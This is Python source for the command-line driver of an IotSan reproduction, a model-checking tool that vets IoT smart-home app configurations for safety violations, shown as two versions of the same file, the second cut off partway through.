        print("wrote %d bytes to %s" % (len(text), args.output))
    else:
        print(text)
    return 0


def cmd_scan(args):
    """Flag apps using dynamic device discovery (§11 limitation 2)."""
    from repro.corpus import load_discovery_apps
    from repro.smartapp import scan_registry

    registry = _load_registry()
    if args.include_unverifiable:
        registry.update(load_discovery_apps())
    flagged = scan_registry(registry)
    if not flagged:
        print("no dynamic device discovery detected in %d apps"
              % len(registry))
        return 0
    for name in sorted(flagged):
        print(flagged[name].describe())
    print()
    print("%d app(s) flagged; these cannot be model-checked and can "
          "control devices the user never granted" % len(flagged))
    return 1


def cmd_attribute(args):
    """Run the Output Analyzer on a newly installed app (§9)."""
    from repro.attribution import OutputAnalyzer

    registry = _load_registry()
    deployment = _load_configuration(args.config)
    installed = [(a.app, a.bindings) for a in deployment.apps
                 if a.app != args.app]
    analyzer = OutputAnalyzer(registry, threshold=args.threshold,
                              max_configs=args.max_configs)
    report = analyzer.attribute(args.app, deployment, installed=installed)
    print(report.summary())
    if args.json:
        payload = {
            "app": report.app_name,
            "verdict": report.verdict,
            "phase1_ratio": report.phase1.ratio,
            "phase2_ratio": report.phase2.ratio if report.phase2 else None,
            "suggestions": report.suggestions()[:5],
        }
        print(json.dumps(payload, indent=2, sort_keys=True))
    return 1 if report.is_flagged else 0


def _add_engine_arguments(parser):
    """The engine tunables shared by ``check`` and ``batch``."""
    parser.add_argument("--max-events", type=int, default=3)
    parser.add_argument("--mode", choices=["sequential", "concurrent"],
                        default="sequential")
    parser.add_argument("--visited", choices=visited_store_names(),
                        default="fingerprint",
                        help="visited-state store: fingerprint (one 64-bit "
                             "word per state, ~2^-64 false positives; the "
                             "default), collapse (exact dedup at a few "
                             "machine words per state - the deep-run "
                             "choice), exact (full canonical keys, no hash "
                             "shortcuts) or bitstate (Spin supertrace)")
    parser.add_argument("--strategy", choices=strategy_names(),
                        default="dfs",
                        help="frontier strategy (search order)")
    parser.add_argument("--max-states", type=int, default=200000)
    parser.add_argument("--no-compile", action="store_true",
                        help="run handlers through the tree interpreter "
                             "instead of the closure compiler (the "
                             "differential-testing oracle)")
    parser.add_argument("--no-successor-cache", action="store_true",
                        help="disable the per-state transition memo")
    parser.add_argument("--cache-limit", type=int, default=100000,
                        help="live successor-cache entries before LRU "
                             "eviction kicks in")
    parser.add_argument("--cache-min-hit-rate", type=float, default=0.05,
                        help="auto-disable (and empty) the successor cache "
                             "when its hit rate is below this after the "
                             "warmup window; 0 keeps it unconditionally")
    parser.add_argument("--reduction", action="store_true",
                        help="sleep-set partial-order reduction over the "
                             "static independence relation: prunes every "
                             "redundant interleaving of commuting external "
                             "events (shrinks the explored state count)")
    parser.add_argument("--failures", action="store_true",
                        help="enumerate device/communication failures")
    parser.add_argument("--properties", nargs="*",
                        help="property ids or categories to verify")


def _engine_options(args):
    """Build :class:`EngineOptions` from the shared CLI arguments."""
    return EngineOptions(max_events=args.max_events, mode=args.mode,
                         visited=args.visited, strategy=args.strategy,
                         max_states=args.max_states,
                         compiled=not args.no_compile,
                         successor_cache=not args.no_successor_cache,
                         cache_limit=args.cache_limit,
                         cache_min_hit_rate=args.cache_min_hit_rate,
                         reduction=args.reduction)


def build_parser():
    """The argparse command-line interface."""
    parser = argparse.ArgumentParser(
        prog="repro",
        description="IotSan reproduction: IoT safety analysis via model "
                    "checking (CoNEXT 2018)")
    sub = parser.add_subparsers(dest="command", required=True)

    p_apps = sub.add_parser("apps", help="list the bundled app corpus")
    p_apps.add_argument("--malicious", action="store_true")
    p_apps.add_argument("--ifttt", action="store_true")
    p_apps.add_argument("--all", action="store_true")
    p_apps.set_defaults(func=cmd_apps)

    p_props = sub.add_parser("properties", help="list the property catalog")
    p_props.add_argument("-v", "--verbose", action="store_true")
    p_props.set_defaults(func=cmd_properties)

    p_analyze = sub.add_parser(
        "analyze", help="dependency graph + related sets for a configuration")
    p_analyze.add_argument("config",
                           help="configuration JSON file or bundled group")
    p_analyze.set_defaults(func=cmd_analyze)

    p_check = sub.add_parser("check", help="model-check a configuration")
    p_check.add_argument("config")
    _add_engine_arguments(p_check)
    p_check.add_argument("--all-properties", action="store_true",
                         help="skip relevance-based property selection")
    p_check.add_argument("--trace", action="store_true",
                         help="print a Fig-7 style violation log")
    p_check.add_argument("--all-traces", action="store_true")
    p_check.add_argument("--ifttt", action="store_true",
                         help="include translated IFTTT rules in the registry")
    p_check.set_defaults(func=cmd_check)

    p_batch = sub.add_parser(
        "batch", help="verify several configurations in parallel")
    p_batch.add_argument("configs", nargs="*",
                         help="configuration files or bundled groups "
                              "(default: all six expert groups)")
    p_batch.add_argument("--workers", type=int, default=None,
                         help="process-pool size (default: one per job "
                              "up to the core count)")
    _add_engine_arguments(p_batch)
    p_batch.add_argument("--ifttt", action="store_true",
                         help="include translated IFTTT rules in the "
                              "registry")
    p_batch.set_defaults(func=cmd_batch)

    p_emit = sub.add_parser("emit", help="emit the Promela model")
    p_emit.add_argument("config")
    p_emit.add_argument("--mode", choices=["sequential", "concurrent"],
                        default="sequential")
    p_emit.add_argument("-o", "--output")
    p_emit.add_argument("--ifttt", action="store_true")
    p_emit.set_defaults(func=cmd_emit)

    p_scan = sub.add_parser(
        "scan", help="flag dynamic-device-discovery apps (unverifiable)")
    p_scan.add_argument("--include-unverifiable", action="store_true",
                        help="also scan the bundled ContexIoT discovery "
                             "apps (Midnight Camera et al.)")
    p_scan.set_defaults(func=cmd_scan)

    p_attr = sub.add_parser(
        "attribute", help="attribute a newly installed app (§9)")
    p_attr.add_argument("app", help="app name from the corpus")
    p_attr.add_argument("config",
                        help="deployment (JSON file or bundled group)")
    p_attr.add_argument("--threshold", type=float, default=0.9)
    p_attr.add_argument("--max-configs", type=int, default=64)
    p_attr.add_argument("--json", action="store_true")
    p_attr.set_defaults(func=cmd_attribute)

    return parser


def main(argv=None):
    """CLI entry point; returns the process exit code."""
    parser = build_parser()
    args = parser.parse_args(argv)
    return args.func(args)


if __name__ == "__main__":
    sys.exit(main())
