"""Command-line driver: ``python -m repro <command>``.

Commands mirror the IotSan pipeline:

* ``apps`` - list the bundled corpus (market / malicious / IFTTT rules);
* ``analyze`` - run the App Dependency Analyzer on a configuration and
  print the dependency graph and related sets (§5);
* ``check`` - model-check a configuration (JSON file or bundled group)
  against the safety properties and print violations (§8);
* ``emit`` - emit the Promela model for a configuration (§8);
* ``attribute`` - run the Output Analyzer on a newly installed app (§9);
* ``batch`` - verify several configurations in parallel across a process
  pool (``verify_many``); ``--json`` emits the machine-readable schema;
* ``properties`` - list the 45-property catalog;
* ``report`` - render a run timeline (phases, throughput sparkline,
  per-shard table) from a ``--telemetry-out`` JSONL sink;
* ``serve`` - run the continuous vetting service (content-addressed
  result store + incremental scheduler behind a JSON API);
* ``submit`` / ``results`` / ``gc`` - talk to a running service: submit
  configurations (optionally with out-of-corpus ``.groovy`` files),
  fetch stored verdicts and counterexamples, evict old store entries.
"""

import argparse
import json
import sys
import time

from repro import build_system
from repro.checker.trace import render_violation_log
from repro.config.schema import SystemConfiguration
from repro.engine.options import ENGINE_MODES
from repro.engine.partition import partitioner_names
from repro.model.faults import scenario_names
from repro.engine import (
    EngineOptions,
    ExplorationEngine,
    VerificationJob,
    strategy_names,
    verify_many,
    visited_store_names,
)
from repro.properties import build_properties, select_relevant


def _load_registry(include_ifttt=False):
    from repro.engine.batch import (
        REGISTRY_CORPUS,
        REGISTRY_CORPUS_IFTTT,
        _resolve_registry,
    )

    spec = REGISTRY_CORPUS_IFTTT if include_ifttt else REGISTRY_CORPUS
    # copy: some commands extend the registry (scan adds discovery apps)
    # and must not poison the resolver's cache
    return dict(_resolve_registry(spec))


def _load_configuration(source):
    """A configuration from a JSON file path or a bundled group name."""
    from repro.corpus.groups import GROUP_BUILDERS

    if source in GROUP_BUILDERS:
        return GROUP_BUILDERS[source]()
    try:
        with open(source, "r", encoding="utf-8") as handle:
            return SystemConfiguration.from_json(handle.read())
    except FileNotFoundError:
        raise SystemExit(
            "no such configuration %r (not a file, and bundled groups are: "
            "%s)" % (source, ", ".join(sorted(GROUP_BUILDERS))))


def cmd_apps(args):
    """List the bundled corpus (market / malicious / IFTTT)."""
    from repro.corpus import load_malicious_apps, load_market_apps

    sections = [("market", load_market_apps())]
    if args.malicious or args.all:
        sections.append(("malicious", load_malicious_apps()))
    if args.ifttt or args.all:
        from repro.ifttt.table9 import table9_registry
        sections.append(("ifttt", table9_registry()))
    for label, registry in sections:
        print("%s apps (%d):" % (label, len(registry)))
        for name in sorted(registry):
            app = registry[name]
            description = app.definition.get("description", "")
            print("  %-38s %s" % (name, description[:70]))
    return 0


def cmd_properties(args):
    """List the 45-property catalog by Table-4 category."""
    from repro.properties import properties_by_category

    for category, props in properties_by_category().items():
        print("%s (%d):" % (category, len(props)))
        for prop in props:
            print("  %-4s %s" % (prop.id, prop.name))
            if args.verbose and prop.ltl:
                print("       LTL: %s" % prop.ltl)
    return 0


def cmd_analyze(args):
    """Run the App Dependency Analyzer on a configuration (§5)."""
    from repro.deps import analyze_apps

    registry = _load_registry()
    config = _load_configuration(args.config)
    apps = [registry[a.app] for a in config.apps if a.app in registry]
    analysis = analyze_apps(apps)
    print(analysis.describe())
    print("scale ratio: %.1fx (original %d handlers -> largest related "
          "set %d)" % (analysis.scale_ratio, analysis.original_size,
                       analysis.new_size))
    return 0


def cmd_check(args):
    """Model-check a configuration against the safety properties (§8)."""
    phase_times = {}
    phase_started = time.monotonic()
    config = _load_configuration(args.config)
    phase_times["parse"] = time.monotonic() - phase_started
    options = _engine_options(args)
    if args.telemetry_out or args.progress:
        from repro.obs import resolve_telemetry
        options.telemetry = resolve_telemetry(
            {"path": args.telemetry_out, "progress": args.progress})
    system = None
    # swarm mode always runs inline: the driver launches its own member
    # searches, so shard workers would only multiply processes
    if options.workers and options.workers > 1 and options.mode != "swarm":
        # the sharded engine's workers rebuild the system from the
        # declarative job description, exactly like `repro batch` -
        # building one in the parent too would double the startup cost
        from repro.engine import explore_sharded
        from repro.engine.batch import REGISTRY_CORPUS, REGISTRY_CORPUS_IFTTT

        job = VerificationJob(
            args.config, config, options,
            properties=args.properties or None,
            select=not args.all_properties,
            registry=REGISTRY_CORPUS_IFTTT if args.ifttt else REGISTRY_CORPUS,
            strict=False, enable_failures=args.failures)
        result = explore_sharded(job, keep_replay_system=True)
    else:
        phase_started = time.monotonic()
        system = build_system(config,
                              registry=_load_registry(
                                  include_ifttt=args.ifttt),
                              enable_failures=args.failures)
        properties = build_properties(args.properties or None)
        if not args.all_properties:
            properties = select_relevant(system, properties)
        phase_times["build"] = time.monotonic() - phase_started
        result = ExplorationEngine(system, properties, options).run()
    # result.profile carries the engine-side phases (codegen, explore,
    # canonicalize); the CLI prepends its own parse/build phases
    phase_times.update(result.profile)
    result.profile = phase_times
    if getattr(args, "json", False):
        print(result.to_json(indent=2))
        return 1 if result.has_violations else 0
    print(result.summary())
    if args.profile:
        total = sum(phase_times.values()) or 1.0
        print("phase breakdown:")
        for name, seconds in sorted(phase_times.items(),
                                    key=lambda kv: -kv[1]):
            print("  %-14s %8.3fs  %5.1f%%"
                  % (name, seconds, 100.0 * seconds / total))
        if result.shard_stats:
            print("shard breakdown (partition=%s):" % options.partition)
            for entry in result.shard_stats:
                print("  shard %d: %d states, %d transitions, "
                      "handoffs %d out / %d in (%.1f KiB), "
                      "steals %d (%d states leased in)"
                      % (entry["worker"], entry["states_explored"],
                         entry["transitions"], entry["handoffs_sent"],
                         entry["handoffs_received"],
                         entry.get("handoff_bytes", 0) / 1024.0,
                         entry.get("steals", 0),
                         entry.get("stolen_states", 0)))
    if args.trace and result.counterexamples:
        if system is None:
            # sharded path: prefer the system the canonical trace
            # replay already built; build one only as a last resort
            system = getattr(result, "replay_system", None) or build_system(
                config,
                registry=_load_registry(include_ifttt=args.ifttt),
                enable_failures=args.failures)
        for counterexample in result.counterexamples.values():
            print()
            print(render_violation_log(system, counterexample))
            if not args.all_traces:
                break
    return 1 if result.has_violations else 0


def cmd_batch(args):
    """Verify several configurations in parallel (``verify_many``)."""
    from repro.corpus.groups import GROUP_BUILDERS
    from repro.engine.batch import REGISTRY_CORPUS, REGISTRY_CORPUS_IFTTT

    sources = args.configs
    if not sources:
        sources = sorted(GROUP_BUILDERS)
    options = _engine_options(args)
    registry = REGISTRY_CORPUS_IFTTT if args.ifttt else REGISTRY_CORPUS
    seen, names = {}, []
    for source in sources:  # uniquify repeated sources for result keying
        count = seen.get(source, 0)
        seen[source] = count + 1
        names.append(source if count == 0 else "%s#%d" % (source, count + 1))
    def _job_options(name):
        # every job appends to the same sink, disambiguated by the
        # ``job`` key so `repro report` renders one section per job
        if not args.telemetry_out:
            return options
        import copy
        from repro.obs import TelemetryConfig
        job_options = copy.copy(options)
        job_options.telemetry = TelemetryConfig(path=args.telemetry_out,
                                                job=name)
        return job_options

    jobs = [VerificationJob(name, _load_configuration(source),
                            _job_options(name),
                            properties=args.properties or None,
                            registry=registry,
                            strict=False,  # match `check` (build_system)
                            enable_failures=args.failures)
            for name, source in zip(names, sources)]
    batch = verify_many(jobs, workers=args.workers)
    if args.json:
        print(batch.to_json(indent=2))
    else:
        print(batch.summary())
    return 1 if (batch.has_violations or batch.errors) else 0


def cmd_report(args):
    """Render a run timeline from a ``--telemetry-out`` JSONL sink."""
    from repro.obs import read_events, render_report

    try:
        events = read_events(args.sink)
    except OSError as exc:
        print("cannot read %s: %s" % (args.sink, exc), file=sys.stderr)
        return 2
    except ValueError as exc:
        print("bad telemetry sink %s: %s" % (args.sink, exc),
              file=sys.stderr)
        return 2
    print(render_report(events))
    return 0


def cmd_emit(args):
    """Emit the Promela model for a configuration (§8)."""
    from repro.translator.promela import emit_promela

    registry = _load_registry(include_ifttt=args.ifttt)
    config = _load_configuration(args.config)
    system = build_system(config, registry=registry)
    properties = select_relevant(system, build_properties())
    text = emit_promela(system, properties, mode=args.mode)
    if args.output:
        with open(args.output, "w", encoding="utf-8") as handle:
            handle.write(text)
        print("wrote %d bytes to %s" % (len(text), args.output))
    else:
        print(text)
    return 0


def cmd_scan(args):
    """Flag apps using dynamic device discovery (§11 limitation 2)."""
    from repro.corpus import load_discovery_apps
    from repro.smartapp import scan_registry

    registry = _load_registry()
    if args.include_unverifiable:
        registry.update(load_discovery_apps())
    flagged = scan_registry(registry)
    if not flagged:
        print("no dynamic device discovery detected in %d apps"
              % len(registry))
        return 0
    for name in sorted(flagged):
        print(flagged[name].describe())
    print()
    print("%d app(s) flagged; these cannot be model-checked and can "
          "control devices the user never granted" % len(flagged))
    return 1


def cmd_attribute(args):
    """Run the Output Analyzer on a newly installed app (§9)."""
    from repro.attribution import OutputAnalyzer

    registry = _load_registry()
    deployment = _load_configuration(args.config)
    installed = [(a.app, a.bindings) for a in deployment.apps
                 if a.app != args.app]
    analyzer = OutputAnalyzer(registry, threshold=args.threshold,
                              max_configs=args.max_configs)
    report = analyzer.attribute(args.app, deployment, installed=installed)
    print(report.summary())
    if args.json:
        payload = {
            "app": report.app_name,
            "verdict": report.verdict,
            "phase1_ratio": report.phase1.ratio,
            "phase2_ratio": report.phase2.ratio if report.phase2 else None,
            "suggestions": report.suggestions()[:5],
        }
        print(json.dumps(payload, indent=2, sort_keys=True))
    return 1 if report.is_flagged else 0


def cmd_serve(args):
    """Run the continuous vetting service (``repro serve``)."""
    from repro.service import ResultStore, create_server

    store = ResultStore(args.store)
    server, service = create_server(store=store, host=args.host,
                                    port=args.port, workers=args.workers,
                                    shard_workers=args.shard_workers,
                                    job_timeout=args.job_timeout,
                                    verbose=args.verbose)
    host, port = server.server_address[:2]
    print("repro vetting service on http://%s:%d (result store: %s)"
          % (host, port, args.store))
    try:
        server.serve_forever()
    except KeyboardInterrupt:
        pass
    finally:
        server.server_close()
        service.shutdown()
        store.close()
    return 0


def _submit_payload(args):
    """The ``POST /submit`` body for the shared engine arguments."""
    from repro.corpus.groups import GROUP_BUILDERS

    payload = {
        "options": {
            "max_events": args.max_events,
            "mode": args.mode,
            "visited": args.visited,
            "strategy": args.strategy,
            "max_states": args.max_states,
            "compiled": not args.no_compile,
            "successor_cache": not args.no_successor_cache,
            "slab_size": args.slab_size,
            "cache_limit": args.cache_limit,
            "cache_min_hit_rate": args.cache_min_hit_rate,
            "reduction": args.reduction,
            "scenario": args.scenario,
            "partition": args.partition,
        },
        "failures": args.failures,
        "priority": args.priority,
    }
    if args.mode == "swarm":
        # semantic for swarm submissions only (they join the digest);
        # sending them on exhaustive submissions would be noise
        payload["options"]["seed"] = args.seed
        payload["options"]["swarm_members"] = args.swarm_members
    if args.engine:
        payload["options"]["engine"] = args.engine
    if args.shard_workers:
        payload["options"]["workers"] = args.shard_workers
    if args.config in GROUP_BUILDERS:
        payload["group"] = args.config
    else:
        payload["config"] = _load_configuration(args.config).to_dict()
    if args.properties:
        payload["properties"] = args.properties
    if args.all_properties:
        payload["all_properties"] = True
    if args.name:
        payload["name"] = args.name
    if args.app:
        from repro.corpus import read_app_sources
        payload["sources"] = read_app_sources(args.app)
    if args.wait:
        payload["wait"] = args.wait
    return payload


def cmd_submit(args):
    """Submit a configuration to a running vetting service."""
    from repro.service import ServiceClient, ServiceError

    client = ServiceClient(args.url, timeout=max(60.0, (args.wait or 0) + 30))
    try:
        snapshot = client.submit(_submit_payload(args))
    except ServiceError as exc:
        raise SystemExit(str(exc))
    print("job %s (%s): %s%s" % (
        snapshot["id"], snapshot["name"], snapshot["status"],
        " [cached]" if snapshot.get("from_cache") else ""))
    print("cache key: %s" % snapshot["cache_key"])
    if snapshot.get("verdict"):
        print("verdict: %s (%d violation(s): %s; %d states, %.2fs)" % (
            snapshot["verdict"], snapshot.get("violations", 0),
            ", ".join(snapshot.get("violated_property_ids", [])) or "-",
            snapshot.get("states_explored", 0), snapshot.get("elapsed", 0.0)))
    return 1 if snapshot.get("verdict") in ("violated", "error") else 0


def cmd_results(args):
    """Fetch a stored result (by cache key or job id) from the service."""
    from repro.engine.result import ExplorationResult
    from repro.service import ServiceClient, ServiceError

    client = ServiceClient(args.url)
    try:
        key = args.key
        if key is None:
            entries = client.results()
            if not entries:
                print("result store is empty")
                return 0
            for entry in entries:
                print("%s  %-9s %-28s %d violation(s), %d states, hits=%d"
                      % (entry["cache_key"][:16], entry["verdict"],
                         (entry["name"] or "-")[:28], entry["violations"],
                         entry["states_explored"], entry["hits"]))
            return 0
        if key.startswith("job-"):
            snapshot = client.job(key)
            if not snapshot.get("cache_key"):
                raise SystemExit("job %s has no cache key yet" % key)
            key = snapshot["cache_key"]
        stored = client.result(key)
    except ServiceError as exc:
        raise SystemExit(str(exc))
    result = ExplorationResult.from_dict(stored["result"])
    print("%s (%s), stored %s, hits=%d" % (
        stored["cache_key"][:16], stored["verdict"],
        time.strftime("%Y-%m-%d %H:%M:%S", time.localtime(stored["created"])),
        stored["hits"]))
    print(result.summary())
    if args.trace and result.counterexamples and stored.get("config"):
        from repro.engine.batch import overlay_sources

        config = SystemConfiguration.from_dict(stored["config"])
        # rebuild the same registry the job ran with (including any
        # out-of-corpus overlays) so the rendered system matches the trace
        registry = overlay_sources(_load_registry(), stored.get("sources"))
        system = build_system(config, registry=registry)
        for counterexample in result.counterexamples.values():
            print()
            print(render_violation_log(system, counterexample))
            if not args.all_traces:
                break
    return 1 if stored["verdict"] == "violated" else 0


def cmd_gc(args):
    """Evict result-store entries, via the service or a store file."""
    max_age = (args.max_age_days * 86400.0
               if args.max_age_days is not None else None)
    if args.store:
        from repro.service import ResultStore

        with ResultStore(args.store) as store:
            removed = store.gc(max_age=max_age, keep=args.keep)
            stats = store.stats()
    else:
        from repro.service import ServiceClient, ServiceError

        try:
            answer = ServiceClient(args.url).gc(max_age=max_age,
                                                keep=args.keep)
        except ServiceError as exc:
            raise SystemExit(str(exc))
        removed, stats = answer["removed"], answer["store"]
    print("removed %d entr%s; %d left (%d violated / %d safe)"
          % (removed, "y" if removed == 1 else "ies", stats["entries"],
             stats["violated"], stats["safe"]))
    return 0


def _add_engine_arguments(parser):
    """The engine tunables shared by ``check`` and ``batch``."""
    parser.add_argument("--max-events", type=int, default=3)
    parser.add_argument("--mode",
                        choices=["sequential", "concurrent", "swarm"],
                        default="sequential",
                        help="exploration semantics: sequential (the "
                             "default interleaving model), concurrent "
                             "(simultaneous event batches) or swarm (N "
                             "diversified sampled member searches - finds "
                             "violations beyond exhaustive reach, but a "
                             "safe verdict only means coverage=partial; "
                             "see --swarm-members/--seed and docs/swarm.md)")
    parser.add_argument("--swarm-members", type=int, default=4,
                        help="member searches a swarm run launches "
                             "(--mode swarm only)")
    parser.add_argument("--seed", type=int, default=0,
                        help="root of the swarm diversification (successor "
                             "shuffles + bitstate salts); the same seed "
                             "reproduces the same swarm result")
    parser.add_argument("--visited", choices=visited_store_names(),
                        default="fingerprint",
                        help="visited-state store: fingerprint (one 64-bit "
                             "word per state, ~2^-64 false positives; the "
                             "default), collapse (exact dedup at a few "
                             "machine words per state - the deep-run "
                             "choice), exact (full canonical keys, no hash "
                             "shortcuts), bitstate (Spin supertrace), "
                             "bitstate-k (salted k-hash supertrace - the "
                             "swarm members' store) or spill (disk-backed "
                             "SQLite - exhaustive coverage with bounded "
                             "RSS; see --spill-dir)")
    parser.add_argument("--spill-dir", default=None, metavar="DIR",
                        help="directory for --visited spill databases "
                             "(default: a self-cleaning temp dir)")
    parser.add_argument("--strategy", choices=strategy_names(),
                        default="dfs",
                        help="frontier strategy (search order)")
    parser.add_argument("--max-states", type=int, default=200000)
    parser.add_argument("--engine", choices=list(ENGINE_MODES), default=None,
                        help="execution tier for the transition relation: "
                             "interpreted (tree-walking oracle), compiled "
                             "(closure compiler; the default) or codegen "
                             "(per-app generated Python modules with slab "
                             "evaluation - the fastest tier).  Verdicts and "
                             "traces are identical across tiers")
    parser.add_argument("--codegen-cache", default=None, metavar="DIR",
                        help="directory for digest-keyed generated modules "
                             "(default: $REPRO_CODEGEN_CACHE or "
                             "~/.cache/repro/codegen)")
    parser.add_argument("--slab-size", type=int, default=64,
                        help="frontier nodes drained per batch by the "
                             "codegen tier (1 = node-at-a-time)")
    parser.add_argument("--no-compile", action="store_true",
                        help="run handlers through the tree interpreter "
                             "instead of the closure compiler (the "
                             "differential-testing oracle; alias for "
                             "--engine interpreted)")
    parser.add_argument("--no-successor-cache", action="store_true",
                        help="disable the per-state transition memo")
    parser.add_argument("--cache-limit", type=int, default=100000,
                        help="live successor-cache entries before LRU "
                             "eviction kicks in")
    parser.add_argument("--cache-min-hit-rate", type=float, default=0.05,
                        help="auto-disable (and empty) the successor cache "
                             "when its hit rate is below this after the "
                             "warmup window; 0 keeps it unconditionally")
    parser.add_argument("--reduction", action="store_true",
                        help="sleep-set partial-order reduction over the "
                             "static independence relation: prunes every "
                             "redundant interleaving of commuting external "
                             "events (shrinks the explored state count)")
    parser.add_argument("--failures", action="store_true",
                        help="enumerate device/communication failures")
    parser.add_argument("--scenario", choices=list(scenario_names()),
                        default="clean",
                        help="fault-injection profile layered onto the "
                             "transition relation: clean (ideal delivery; "
                             "the default), lossy (sensor reports lost in "
                             "transit), delayed (cascade events delivered "
                             "newest-first), duplicated (reports delivered "
                             "twice), device-death (one device stops "
                             "reporting and acting per cascade) or "
                             "stale-reads (app reads see the pre-event "
                             "value).  See docs/scenarios.md")
    parser.add_argument("--partition", choices=list(partitioner_names()),
                        default="locality",
                        help="shard-ownership strategy for sharded runs "
                             "(workers > 1): locality (stable projection "
                             "of the packed slot grid - order-of-magnitude "
                             "fewer cross-shard handoffs; the default) or "
                             "fingerprint (fingerprint %% N - perfectly "
                             "balanced, zero locality).  Verdicts and "
                             "traces are identical either way")
    parser.add_argument("--properties", nargs="*",
                        help="property ids or categories to verify")


def _engine_options(args):
    """Build :class:`EngineOptions` from the shared CLI arguments.

    ``check`` exposes shard workers as ``--workers``; ``batch`` and
    ``submit`` (whose ``--workers`` means the job-level process pool)
    expose the same option as ``--shard-workers``.
    """
    shard_workers = (getattr(args, "shard_workers", None)
                     or getattr(args, "engine_workers", None) or 1)
    engine = args.engine or ("interpreted" if args.no_compile
                             else "compiled")
    return EngineOptions(max_events=args.max_events, mode=args.mode,
                         visited=args.visited, strategy=args.strategy,
                         max_states=args.max_states,
                         engine=engine,
                         codegen_cache=args.codegen_cache,
                         slab_size=args.slab_size,
                         successor_cache=not args.no_successor_cache,
                         cache_limit=args.cache_limit,
                         cache_min_hit_rate=args.cache_min_hit_rate,
                         reduction=args.reduction,
                         scenario=args.scenario,
                         workers=shard_workers,
                         partition=getattr(args, "partition", "locality"),
                         seed=getattr(args, "seed", 0),
                         swarm_members=getattr(args, "swarm_members", 4),
                         spill_dir=getattr(args, "spill_dir", None))


def build_parser():
    """The argparse command-line interface."""
    parser = argparse.ArgumentParser(
        prog="repro",
        description="IotSan reproduction: IoT safety analysis via model "
                    "checking (CoNEXT 2018)")
    sub = parser.add_subparsers(dest="command", required=True)

    p_apps = sub.add_parser("apps", help="list the bundled app corpus")
    p_apps.add_argument("--malicious", action="store_true")
    p_apps.add_argument("--ifttt", action="store_true")
    p_apps.add_argument("--all", action="store_true")
    p_apps.set_defaults(func=cmd_apps)

    p_props = sub.add_parser("properties", help="list the property catalog")
    p_props.add_argument("-v", "--verbose", action="store_true")
    p_props.set_defaults(func=cmd_properties)

    p_analyze = sub.add_parser(
        "analyze", help="dependency graph + related sets for a configuration")
    p_analyze.add_argument("config",
                           help="configuration JSON file or bundled group")
    p_analyze.set_defaults(func=cmd_analyze)

    p_check = sub.add_parser("check", help="model-check a configuration")
    p_check.add_argument("config")
    p_check.add_argument("--workers", type=int, default=1,
                         dest="engine_workers", metavar="N",
                         help="shard this one run across N worker "
                              "processes (state ownership partitioned "
                              "per --partition; verdicts, violation sets "
                              "and traces are identical to --workers 1)")
    _add_engine_arguments(p_check)
    p_check.add_argument("--all-properties", action="store_true",
                         help="skip relevance-based property selection")
    p_check.add_argument("--trace", action="store_true",
                         help="print a Fig-7 style violation log")
    p_check.add_argument("--all-traces", action="store_true")
    p_check.add_argument("--profile", action="store_true",
                         help="print a per-phase wall-time breakdown "
                              "(parse, build, codegen, explore, "
                              "canonicalize)")
    p_check.add_argument("--json", action="store_true",
                         help="emit the machine-readable result schema "
                              "(profile included) instead of the summary")
    p_check.add_argument("--telemetry-out", default=None, metavar="FILE",
                         help="append versioned telemetry JSONL events "
                              "(progress snapshots, phase spans, the run "
                              "outcome) to FILE; render it later with "
                              "`repro report FILE`.  Pure observability: "
                              "verdicts, traces and cache keys are "
                              "unchanged")
    p_check.add_argument("--progress", action="store_true",
                         help="live single-line progress meter on stderr "
                              "(states, transitions, states/s, frontier, "
                              "depth, cache hit rate)")
    p_check.add_argument("--ifttt", action="store_true",
                         help="include translated IFTTT rules in the registry")
    p_check.set_defaults(func=cmd_check)

    p_batch = sub.add_parser(
        "batch", help="verify several configurations in parallel")
    p_batch.add_argument("configs", nargs="*",
                         help="configuration files or bundled groups "
                              "(default: all six expert groups)")
    p_batch.add_argument("--workers", type=int, default=None,
                         help="process-pool size (default: one per job "
                              "up to the core count)")
    p_batch.add_argument("--shard-workers", type=int, default=None,
                         metavar="N",
                         help="additionally shard each job's own search "
                              "across N processes (multiplies with "
                              "--workers; useful when the batch has "
                              "fewer jobs than cores)")
    _add_engine_arguments(p_batch)
    p_batch.add_argument("--ifttt", action="store_true",
                         help="include translated IFTTT rules in the "
                              "registry")
    p_batch.add_argument("--json", action="store_true",
                         help="emit the machine-readable BatchResult "
                              "schema instead of the text summary (the "
                              "exit code stays nonzero when any job "
                              "reports a violation)")
    p_batch.add_argument("--telemetry-out", default=None, metavar="FILE",
                         help="append every job's telemetry JSONL events "
                              "to FILE (events carry the job name; "
                              "`repro report FILE` renders one section "
                              "per job)")
    p_batch.set_defaults(func=cmd_batch)

    p_report = sub.add_parser(
        "report", help="render a run timeline from a telemetry JSONL sink")
    p_report.add_argument("sink",
                          help="JSONL file written by --telemetry-out")
    p_report.set_defaults(func=cmd_report)

    from repro.service.defaults import DEFAULT_PORT
    default_url = "http://127.0.0.1:%d" % DEFAULT_PORT

    p_serve = sub.add_parser(
        "serve", help="run the continuous vetting service (JSON API)")
    p_serve.add_argument("--host", default="127.0.0.1")
    p_serve.add_argument("--port", type=int, default=DEFAULT_PORT,
                         help="TCP port (0 binds an ephemeral free port)")
    p_serve.add_argument("--store", default="repro-results.sqlite",
                         help="result-store SQLite file (':memory:' for "
                              "an ephemeral store)")
    p_serve.add_argument("--workers", type=int, default=None,
                         help="engine process-pool size per drain cycle")
    p_serve.add_argument("--shard-workers", type=int, default=None,
                         metavar="N",
                         help="shard each executed job's search across N "
                              "processes instead of pooling across jobs "
                              "(best when submissions trickle in one at "
                              "a time on a multi-core host)")
    p_serve.add_argument("--job-timeout", type=float, default=None,
                         metavar="SECONDS",
                         help="per-job wall-clock budget: a job still "
                              "running after this many seconds is marked "
                              "errored and its in-flight dedup key is "
                              "released (default: no timeout)")
    p_serve.add_argument("--verbose", action="store_true",
                         help="log every HTTP request")
    p_serve.set_defaults(func=cmd_serve)

    p_submit = sub.add_parser(
        "submit", help="submit a configuration to a running service")
    p_submit.add_argument("config",
                          help="configuration JSON file or bundled group")
    p_submit.add_argument("--url", default=default_url,
                          help="service base URL")
    p_submit.add_argument("--app", action="append", default=[],
                          metavar="GROOVY_FILE",
                          help="overlay an out-of-corpus .groovy app onto "
                               "the registry (repeatable)")
    p_submit.add_argument("--name", help="display name for the job")
    p_submit.add_argument("--priority", type=int, default=0,
                          help="scheduling priority (higher runs first)")
    p_submit.add_argument("--wait", type=float, default=0.0,
                          metavar="SECONDS",
                          help="block up to SECONDS for the verdict "
                               "(0: return the job id immediately)")
    p_submit.add_argument("--shard-workers", type=int, default=None,
                          metavar="N",
                          help="ask the service to shard this job's "
